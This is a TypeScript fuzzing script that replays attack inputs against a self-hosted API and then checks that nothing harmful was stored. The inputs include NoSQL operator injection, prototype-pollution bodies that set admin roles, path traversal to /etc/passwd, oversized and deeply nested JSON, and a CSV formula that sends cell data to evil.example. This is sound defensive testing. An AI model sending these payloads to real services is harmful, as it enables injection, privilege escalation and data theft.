// Replays a hand-made set of bad inputs against a running service (issue 9, "done when"):
//   npm run attack -- [--url http://localhost:3000] [--password demo] [--api-key demo-telephony-key] [--quick]
// Signs in with the demo accounts, sends NoSQL operators, prototype pollution, huge and deeply
// nested bodies, invalid ids, odd methods, NUL bytes, lone surrogates, control characters, extreme
// and impossible dates, CSV formulas and wrong content types to the main endpoints of each role,
// then reads back what the service stored. Prints the inputs tried, the 5xx answers seen (must be
// 0), the bad values accepted or stored (must be 0); exits non-zero otherwise.
// Only for services you run yourself (loopback or your own test hosts).
import { request as httpRequest } from "node:http";
import { parse as parseCsv } from "csv-parse/sync";

export interface AttackOptions {
  url: string;
  password?: string;
  apiKey?: string;
  /** A reduced set (one variant of each kind per endpoint) for tests. */
  quick?: boolean;
  log?: (line: string) => void;
}

export interface AttackReport {
  tried: number;
  fiveXX: string[];
  accepted: string[];
  stored: string[];
}

interface Res {
  status: number;
  text: string;
  body: any;
  headers: Record<string, string | string[] | undefined>;
}

function send(base: string, method: string, path: string, body?: string | Buffer, headers: Record<string, string> = {}): Promise<Res> {
  const u = new URL(path, base);
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        host: u.hostname,
        port: u.port || 80,
        method,
        path: u.pathname + u.search,
        headers: { ...(body !== undefined ? { "content-length": String(Buffer.byteLength(body)) } : {}), ...headers },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () => {
          const text = Buffer.concat(chunks).toString("utf8");
          let parsed: any;
          try {
            parsed = text ? JSON.parse(text) : undefined;
          } catch {
            parsed = undefined;
          }
          resolve({ status: res.statusCode ?? 0, text, body: parsed, headers: res.headers });
        });
        res.on("error", reject);
      },
    );
    req.setTimeout(30_000, () => req.destroy(new Error("timeout")));
    req.on("error", reject);
    if (body !== undefined) req.write(body);
    req.end();
  });
}

const RUN = `ATK${Date.now().toString(36)}`;
const POLLUTION = `${RUN}-polluted`;

type Kind = "string" | "date" | "number" | "id" | "array" | "bool";

/** `refuse: false`: a well-formed value whose acceptance is not a fault (only 5xx would be). */
function variants(kind: Kind, quick: boolean): { label: string; value: unknown; refuse?: boolean }[] {
  const operators = [
    { label: "$gt operator", value: { $gt: "" } },
    { label: "$ne operator", value: { $ne: null } },
    { label: "$where operator", value: { $where: "sleep(1000)" } },
    { label: "$regex operator", value: { $regex: ".*" } },
  ];
  const strings = [
    { label: "NUL byte", value: `${RUN} a\u0000b` },
    { label: "lone surrogate", value: `${RUN} \ud800` },
    { label: "lone low surrogate", value: `${RUN} x\udc00y` },
    { label: "escape control", value: `${RUN} \u001b[31mred` },
    { label: "C1 control", value: `${RUN} \u0085` },
    { label: "100 kB string", value: `${RUN}${"x".repeat(100_000)}` },
  ];
  const scalars = [
    { label: "null", value: null },
    { label: "true", value: true },
    { label: "object", value: { a: 1 } },
  ];
  const dates = [
    { label: "date null", value: null },
    { label: "date true", value: true },
    { label: "date 0", value: 0 },
    { label: "date -1", value: -1 },
    { label: "date 123", value: 123 },
    { label: "date 8.64e15", value: 8.64e15 },
    { label: "date +275760", value: "+275760-09-13T00:00:00.000Z" },
    { label: "date -271821", value: "-271821-04-20T00:00:00.000Z" },
    { label: "date 2026-02-30", value: "2026-02-30" },
    { label: "date 1970-01-01", value: "1970-01-01" },
    { label: "date without offset", value: "2026-12-01T10:00" },
    { label: "date NUL", value: "2026-01-01\u0000" },
  ];
  const numbers = [
    { label: "number as string", value: "5" },
    { label: "number 1e308", value: 1e308 },
    { label: "number -1e308", value: -1e308 },
    { label: "number null", value: null },
  ];
  const ids = [
    { label: "id traversal", value: "../../../etc/passwd" },
    { label: "id 500 chars", value: "a".repeat(500) },
    { label: "id NUL", value: "abc\u0000def" },
    { label: "id objectid-like", value: "000000000000000000000000", refuse: false },
  ];
  const pick = <T>(xs: T[]) => (quick ? xs.slice(0, 1) : xs);
  switch (kind) {
    case "string":
      return [...pick(operators), ...(quick ? [strings[0]!, strings[1]!] : strings), ...pick(scalars)];
    case "date":
      return [...pick(operators), ...(quick ? [dates[3]!, dates[6]!, dates[8]!] : dates)];
    case "number":
      return [...pick(operators), ...pick(numbers)];
    case "id":
      return [...pick(operators), ...pick(ids)];
    case "array":
      return [...pick(operators), { label: "string for array", value: "x" }, { label: "array of operators", value: [{ $gt: "" }] }];
    case "bool":
      return [...pick(operators), { label: "string for bool", value: "true" }];
  }
}

interface Target {
  role: string;
  method: string;
  path: string;
  base: Record<string, unknown>;
  fields: Record<string, Kind>;
}

const today = new Date();
const isoDay = (d: Date) => d.toISOString().slice(0, 10);
const yesterday = isoDay(new Date(today.getTime() - 86_400_000));

function targets(): Target[] {
  const inAnHour = new Date(today.getTime() + 3_600_000).toISOString();
  const inTwoHours = new Date(today.getTime() + 7_200_000).toISOString();
  return [
    { role: "anonymous", method: "POST", path: "/api/v1/auth/login", base: { username: "requester", password: "x" }, fields: { username: "id" } },
    {
      role: "requester",
      method: "POST",
      path: "/api/v1/requests",
      base: {
        title: `${RUN} aanvraag`,
        description: "Context voor de aanvraag",
        expertise: ["culture.somali"],
        urgency: "planned",
        mode: "phone",
        unitId: "amsterdam",
        estimatedHours: 2,
      },
      fields: { title: "string", description: "string", expertise: "array", unitId: "id", neededBy: "date", estimatedHours: "number" },
    },
    {
      role: "member",
      method: "POST",
      path: "/api/v1/time-entries",
      base: { date: yesterday, hours: 0.25, category: "network", note: `${RUN} notitie` },
      fields: { date: "date", hours: "number", note: "string", requestId: "id" },
    },
    { role: "member", method: "PUT", path: "/api/v1/members/me", base: {}, fields: { languages: "array", consent: "bool" } },
    {
      role: "member",
      method: "POST",
      path: "/api/v1/knowledge",
      base: { title: `${RUN} kennis`, body: "Een kennisnotitie van voldoende lengte.", expertise: [] },
      fields: { title: "string", body: "string", expertise: "array" },
    },
    {
      role: "coordinator",
      method: "POST",
      path: "/api/v1/pools",
      base: { name: `${RUN} pool`, description: "", expertise: [], unitIds: ["rotterdam"] },
      fields: { name: "string", description: "string", unitIds: "array", activeFrom: "date", activeUntil: "date" },
    },
    {
      role: "coordinator",
      method: "POST",
      path: "/api/v1/budgets/overrides",
      base: { memberId: "does-not-exist", extraHours: 1, reason: `${RUN} reden` },
      fields: { memberId: "id", extraHours: "number", reason: "string", year: "number" },
    },
    {
      role: "coordinator",
      method: "POST",
      path: "/api/v1/policies/simulate",
      base: { baseHoursPerYear: 72 },
      fields: { effectiveFrom: "date", baseHoursPerYear: "number" },
    },
    {
      role: "planner",
      method: "POST",
      path: "/api/v1/helpline/shifts",
      base: { memberId: "does-not-exist", start: inAnHour, end: inTwoHours },
      fields: { memberId: "id", start: "date", end: "date" },
    },
    {
      role: "admin",
      method: "POST",
      path: "/api/v1/admin/users",
      base: { username: `${RUN.toLowerCase()}x`, password: "long-enough-password", name: `${RUN} naam`, roles: ["requester"], unitId: "amsterdam" },
      fields: { username: "id", name: "string", phone: "string", unitId: "id", roles: "array", networks: "array" },
    },
  ];
}

/** Whole-body and transport-level attacks on one endpoint. */
function bodyAttacks(t: Target, quick: boolean): { label: string; body: string | Buffer; contentType: string }[] {
  const json = JSON.stringify(t.base);
  const inner = json.slice(1, -1);
  const deep = (n: number) => "[".repeat(n) + "]".repeat(n);
  const all = [
    {
      label: "__proto__ pollution",
      body: `{"__proto__":{"polluted":"${POLLUTION}","isAdmin":true,"roles":["admin"]}${inner ? "," + inner : ""}}`,
      contentType: "application/json",
    },
    {
      label: "constructor.prototype pollution",
      body: `{"constructor":{"prototype":{"polluted":"${POLLUTION}"}}${inner ? "," + inner : ""}}`,
      contentType: "application/json",
    },
    {
      label: "nested __proto__",
      body: JSON.stringify({ ...t.base, scope: JSON.parse(`{"__proto__":{"polluted":"${POLLUTION}"}}`) }),
      contentType: "application/json",
    },
    { label: "deeply nested array (20,000)", body: deep(20_000), contentType: "application/json" },
    { label: "deeply nested object", body: '{"a":'.repeat(5_000) + "1" + "}".repeat(5_000), contentType: "application/json" },
    { label: "1 MB body", body: JSON.stringify({ ...t.base, pad: "x".repeat(1_000_000) }), contentType: "application/json" },
    { label: "array instead of object", body: "[1,2,3]", contentType: "application/json" },
    { label: "malformed JSON", body: '{"a": ', contentType: "application/json" },
    { label: "JSON as UTF-16", body: Buffer.from(json, "utf16le"), contentType: "application/json; charset=utf-16" },
    { label: "text/plain", body: json, contentType: "text/plain" },
    { label: "form encoded", body: "a=1&b=2", contentType: "application/x-www-form-urlencoded" },
    { label: "empty text/plain", body: "", contentType: "text/plain" },
  ];
  return quick ? all.filter((_, i) => [0, 1, 3, 5, 8, 9].includes(i)) : all;
}

// refuse: must be a 4xx. Searches for odd text (regex metacharacters, bracket keys that are just
// unknown parameters) may answer 200: what matters there is no 5xx and no operator taking effect.
const GET_ATTACKS: { role: string; path: string; refuse: boolean }[] = [
  { role: "coordinator", path: "/api/v1/budgets?q=%00", refuse: true },
  { role: "coordinator", path: "/api/v1/budgets/export.csv?q=%00", refuse: true },
  { role: "admin", path: "/api/v1/admin/users?q=%00", refuse: true },
  { role: "admin", path: "/api/v1/admin/users?q=(a%2B)%2B%24", refuse: false },
  { role: "coordinator", path: "/api/v1/budgets?q=%5B", refuse: false },
  { role: "coordinator", path: "/api/v1/budgets?year=99999", refuse: true },
  { role: "coordinator", path: "/api/v1/budgets?q[$ne]=x", refuse: false },
  { role: "coordinator", path: "/api/v1/members?q=%ED%A0%80", refuse: false },
  { role: "requester", path: "/api/v1/requests/..%2F..%2Fetc", refuse: true },
  { role: "requester", path: "/api/v1/requests/%00", refuse: true },
  { role: "requester", path: "/api/v1/requests/000000000000000000000000", refuse: true },
  { role: "requester", path: `/api/v1/requests/${"a".repeat(2000)}`, refuse: true },
  { role: "member", path: "/api/v1/offers?status[$gt]=", refuse: false },
  { role: "member", path: "/api/v1/helpline/shifts?from=%2B275760-09-13T00:00:00.000Z", refuse: true },
  { role: "member", path: "/api/v1/helpline/shifts?from=8.64e15", refuse: true },
  { role: "member", path: "/api/v1/time-entries?year=1e9", refuse: true },
  { role: "member", path: "/api/v1/knowledge/%7B%22%24gt%22%3A%22%22%7D", refuse: true },
  { role: "auditor", path: "/api/v1/audit?cursor=%7B%22%24gt%22%3A%22%22%7D", refuse: true },
  { role: "auditor", path: "/api/v1/audit?limit=-1", refuse: true },
  { role: "anonymous", path: "/api/v1/calendar/me.ics?token[$ne]=x", refuse: true },
  { role: "anonymous", path: "/api/v1/calendar/me.ics?token=%00", refuse: true },
];

const ODD_METHODS = ["TRACE", "PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "SEARCH", "FOO"];
const ODD_PATHS = ["/", "/api/v1/auth/login", "/api/v1/budgets", "/api/v1/requests", "/api/v1/helpline/route"];

const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)"];

const BAD_TEXT = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

function setPath(obj: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  return { ...obj, [key]: value };
}

export async function runAttack(opts: AttackOptions): Promise<AttackReport> {
  const log = opts.log ?? ((l: string) => console.log(l));
  const base = opts.url.replace(/\/$/, "");
  const quick = !!opts.quick;
  const password = opts.password ?? "demo";
  const report: AttackReport = { tried: 0, fiveXX: [], accepted: [], stored: [] };
  const tokens: Record<string, string> = {};
  for (const [role, username] of Object.entries({
    requester: "requester",
    member: "member",
    coordinator: "coordinator",
    planner: "planner",
    admin: "admin",
    auditor: "auditor",
  })) {
    const res = await send(base, "POST", "/api/v1/auth/login", JSON.stringify({ username, password }), { "content-type": "application/json" });
    if (res.status !== 200) throw new Error(`cannot sign in as ${username}: ${res.status} ${res.text.slice(0, 200)}`);
    tokens[role] = res.body.token;
  }
  const auth = (role: string): Record<string, string> => (role === "anonymous" ? {} : { authorization: `Bearer ${tokens[role]}` });

  const record = (what: string, res: Res, expectRefusal: boolean) => {
    report.tried++;
    if (res.status >= 500) report.fiveXX.push(`${what} → ${res.status} ${res.text.slice(0, 120)}`);
    else if (expectRefusal && res.status < 300) report.accepted.push(`${what} → ${res.status}`);
  };
  const safely = async (what: string, fn: () => Promise<Res>, expectRefusal: boolean) => {
    try {
      record(what, await fn(), expectRefusal);
    } catch (err) {
      report.tried++;
      report.fiveXX.push(`${what} → no answer (${(err as Error).message})`);
    }
  };

  // 1. Field-level bad values on each write endpoint of each role.
  for (const t of targets()) {
    for (const [field, kind] of Object.entries(t.fields)) {
      for (const v of variants(kind, quick)) {
        const body = JSON.stringify(setPath(t.base, field, v.value));
        await safely(
          `${t.role} ${t.method} ${t.path} ${field}=${v.label}`,
          () => send(base, t.method, t.path, body, { "content-type": "application/json", ...auth(t.role) }),
          v.refuse ?? true,
        );
      }
    }
    // 2. Whole-body and content-type attacks.
    for (const a of bodyAttacks(t, quick)) {
      const expectRefusal = true; // every schema is strict: unknown keys (pollution too) are 422
      await safely(
        `${t.role} ${t.method} ${t.path} body: ${a.label}`,
        () => send(base, t.method, t.path, a.body, { "content-type": a.contentType, ...auth(t.role) }),
        expectRefusal,
      );
    }
  }

  // 3. Query strings and ids.
  for (const g of GET_ATTACKS) await safely(`${g.role} GET ${g.path.slice(0, 80)}`, () => send(base, "GET", g.path, undefined, auth(g.role)), g.refuse);

  // 4. Odd methods.
  for (const m of quick ? ODD_METHODS.slice(0, 3) : ODD_METHODS)
    for (const p of ODD_PATHS) await safely(`anonymous ${m} ${p}`, () => send(base, m, p, undefined, {}), true);

  // 5. The helpline webhook must answer every bad body with a routing decision (never 5xx).
  const key = opts.apiKey ?? "demo-telephony-key";
  const webhookBodies = [
    "",
    "not json",
    '{"callId":{"$gt":""}}',
    `{"__proto__":{"polluted":"${POLLUTION}"},"callId":"${RUN}-p"}`,
    '{"callId":"a\\u0000b"}',
    "[".repeat(20_000),
    JSON.stringify({ callId: `${RUN}-big`, pad: "x".repeat(200_000) }),
  ];
  for (const b of quick ? webhookBodies.slice(0, 4) : webhookBodies) {
    await safely(
      `telephony POST /helpline/route body ${b.slice(0, 30)}`,
      async () => {
        const res = await send(base, "POST", "/api/v1/helpline/route", b, { "content-type": "application/json", "x-api-key": key });
        if (res.status === 200 && !["member", "rsc"].includes(res.body?.action))
          return { ...res, status: 500, text: `no routing decision: ${res.text.slice(0, 100)}` };
        return res;
      },
      false,
    );
  }

  // 6. CSV formulas: stored as names (allowed), but neutralised in every export.
  const formulaNames = quick ? FORMULAS.slice(0, 3) : FORMULAS;
  for (const [i, name] of formulaNames.entries()) {
    await safely(
      `admin POST /admin/users name=${name}`,
      () =>
        send(
          base,
          "POST",
          "/api/v1/admin/users",
          JSON.stringify({ username: `${RUN.toLowerCase()}f${i}`, password: "long-enough-password", name, roles: ["member"], unitId: "rotterdam" }),
          { "content-type": "application/json", ...auth("admin") },
        ),
      false,
    );
  }

  // 7. Read back: nothing with control characters, lone surrogates, operators or pollution markers
  //    stored; no formula cell in the CSVs; no impossible dates.
  const readBacks: { role: string; path: string }[] = [
    { role: "requester", path: "/api/v1/requests?mine=1&limit=500" },
    { role: "requester", path: "/api/v1/auth/me" },
    { role: "member", path: "/api/v1/time-entries?mine=1&limit=500" },
    { role: "member", path: "/api/v1/members/me" },
    { role: "member", path: "/api/v1/knowledge?limit=500" },
    { role: "coordinator", path: "/api/v1/pools" },
    { role: "coordinator", path: "/api/v1/budgets?unit=rotterdam" },
    { role: "planner", path: "/api/v1/helpline/shifts" },
    { role: "admin", path: `/api/v1/admin/users?q=${RUN}` },
    { role: "admin", path: "/api/v1/admin/users?limit=500" },
  ];
  for (const r of readBacks) {
    const res = await send(base, "GET", r.path, undefined, auth(r.role));
    report.tried++;
    if (res.status >= 500) report.fiveXX.push(`read back ${r.path} → ${res.status}`);
    if (res.status !== 200) continue;
    scan(res.body, r.path, report);
  }
  for (const format of ["", "&format=nl"]) {
    const res = await send(base, "GET", `/api/v1/budgets/export.csv?unit=rotterdam${format}`, undefined, auth("coordinator"));
    report.tried++;
    if (res.status !== 200) {
      report.fiveXX.push(`CSV export${format} → ${res.status}`);
      continue;
    }
    const rows = parseCsv(res.text, { bom: true, delimiter: format ? ";" : ",", relax_column_count: true }) as string[][];
    for (const row of rows)
      for (const cell of row)
        if (/^[=+\-@\t\r]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell)) report.stored.push(`CSV${format} cell starts a formula: ${cell.slice(0, 60)}`);
    for (const name of formulaNames) if (!rows.some((row) => row.includes(`'${name}`))) report.stored.push(`CSV${format}: neutralised name ${name} not found`);
  }

  log(`inputs tried: ${report.tried}`);
  log(`5xx seen: ${report.fiveXX.length}`);
  for (const l of report.fiveXX.slice(0, 50)) log(`  5xx  ${l}`);
  log(`bad inputs accepted (2xx): ${report.accepted.length}`);
  for (const l of report.accepted.slice(0, 50)) log(`  2xx  ${l}`);
  log(`values stored that should not be: ${report.stored.length}`);
  for (const l of report.stored.slice(0, 50)) log(`  stored  ${l}`);
  return report;
}

function scan(value: unknown, where: string, report: AttackReport, path = ""): void {
  if (typeof value === "string") {
    if (value.includes(POLLUTION)) report.stored.push(`${where} ${path}: pollution marker`);
    if (value.includes(RUN) && BAD_TEXT.test(value)) report.stored.push(`${where} ${path}: control character or lone surrogate`);
    if (value.includes(RUN) && value.length > 20_000) report.stored.push(`${where} ${path}: ${value.length}-character value`);
    const m = /^([+-]\d{6}|\d{4})-\d{2}-\d{2}(T|$)/.exec(value);
    if (m && /(date|from|until|start|end|neededBy|effectiveFrom)$/i.test(path)) {
      const y = Number(m[1]);
      if (y < 2000 || y > 2100) report.stored.push(`${where} ${path}: date ${value}`);
    }
    return;
  }
  if (Array.isArray(value)) return value.forEach((v, i) => scan(v, where, report, `${path}[${i}]`));
  if (value && typeof value === "object") {
    for (const [k, v] of Object.entries(value)) {
      if (k.startsWith("$") || k === "__proto__" || k === "polluted" || k === "isAdmin") report.stored.push(`${where} ${path}.${k}: suspicious key`);
      scan(v, where, report, path ? `${path}.${k}` : k);
    }
  }
}

function arg(name: string): string | undefined {
  const i = process.argv.indexOf(`--${name}`);
  return i >= 0 ? process.argv[i + 1] : undefined;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const url = arg("url") ?? "http://localhost:3000";
  runAttack({ url, password: arg("password"), apiKey: arg("api-key"), quick: process.argv.includes("--quick") })
    .then((r) => {
      const failed = r.fiveXX.length + r.accepted.length + r.stored.length;
      console.log(failed ? "FAILED" : "OK: no 5xx, no bad value accepted or stored");
      process.exit(failed ? 1 : 0);
    })
    .catch((err) => {
      console.error(`attack run failed: ${(err as Error).message}`);
      process.exit(2);
    });
}
